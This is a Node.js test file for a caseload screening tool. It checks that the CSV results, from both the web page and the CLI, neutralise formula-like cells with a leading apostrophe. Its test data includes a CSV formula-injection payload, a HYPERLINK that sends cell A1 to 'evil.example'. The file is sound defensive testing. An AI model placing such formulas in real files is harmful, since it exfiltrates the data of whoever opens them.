// Issue 20, "the caseload file" (SCREENING.md §10): a results CSV echoes `ref`, so a cell that
// begins with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula when the file
// is opened in a spreadsheet (`=HYPERLINK(…)`). Every such cell is written with a leading
// apostrophe, the same way by the caseload page and by `peer-screen csv` (the same bytes), in
// English and in Spanish; nothing else changes.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { ORIGIN, PEER_SCREEN, isFaviconError, launch, newContext, openPage } from './lib.mjs';

const AS_OF = '2026-11-22';
/** Refs as a hostile or careless list holds them, each the `ref` of one nc-pss row. */
const REFS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '+1-555-0100',
  '-2',
  '@SUM(1)',
  '\tTabbed',
  ' =not first',
  "'=already text",
  'A-101',
];
let browser;
let dir;

before(async () => {
  browser = await launch();
  dir = mkdtempSync(path.join(tmpdir(), 'caseload-formula-'));
});
after(async () => {
  await browser?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** A CSV field as a spreadsheet writes it. */
function quote(text) {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** The cells of a CSV text (RFC 4180: quoted fields, doubled quotes, LF rows). */
function cells(text) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      rows.at(-1).push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.at(-1).push(cell);
      cell = '';
      rows.push([]);
    } else cell += c;
  }
  if (rows.at(-1).length === 0 && cell === '') rows.pop();
  return rows;
}

for (const lang of ['en', 'es']) {
  test(`a ref (or any cell) a spreadsheet would run gets an apostrophe first, the same bytes on the page and from peer-screen csv (${lang})`, async () => {
    // One good row per ref, and one bad row (its error message is echoed too).
    const lines = ['ref,program,dsm5_diagnosis,need_areas,innovations_waiver,actt,cst,other_pss_provider,cca_completed'];
    for (const ref of REFS) lines.push(`${quote(ref)},nc-pss,yes,recent_crisis;relationships;daily_living,no,no,no,no,yes`);
    lines.push(`${quote('=1+1')},nc-pss,=1+1,,,,,,`);
    const input = Buffer.from(`${lines.join('\r\n')}\r\n`);
    const where = path.join(dir, `formula-${lang}.csv`);
    writeFileSync(where, input);
    const native = execFileSync(PEER_SCREEN, ['csv', '--as-of', AS_OF, '--lang', lang], { input, stdio: ['pipe', 'pipe', 'pipe'] });

    const context = await newContext(browser, { acceptDownloads: true });
    try {
      const watch = await openPage(context, 'caseload.html');
      const { page } = watch;
      await page.locator('input[type=file][name=caseload]').setInputFiles(where);
      await page.locator('select[name=lang]').selectOption(lang);
      await page.locator('input[name=as_of]').fill(AS_OF);
      await page.locator('[data-action=screen]').click();
      await page.locator('[data-done]').waitFor({ state: 'attached', timeout: 60000 });
      const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-action=download-results]').click()]);
      const bytes = readFileSync(await download.path());
      assert.ok(bytes.equals(native), `the page's download differs from peer-screen csv:\n${bytes}\n---\n${native}`);

      const rows = cells(bytes.toString('utf8'));
      assert.equal(rows.length, REFS.length + 2, 'one result row per data row, and the header');
      const [header, ...results] = rows;
      const at = header.indexOf('ref');
      const echoed = results.map((row) => row[at]);
      assert.deepEqual(echoed, [
        `'${REFS[0]}`, `'${REFS[1]}`, `'${REFS[2]}`, `'${REFS[3]}`, `'${REFS[4]}`,
        REFS[5], REFS[6], REFS[7], "'=1+1",
      ]);
      for (const row of results) {
        for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
      }
      assert.equal(results.at(-1)[header.indexOf('error_code')], 'invalid_answer', 'the bad row is not an error row');
      const problems = [...watch.consoleErrors.filter((e) => !isFaviconError(e)), ...watch.pageErrors];
      problems.push(...watch.requests.filter((u) => !u.startsWith(`${ORIGIN}/`) && !u.startsWith(`blob:${ORIGIN}/`)));
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
  });
}
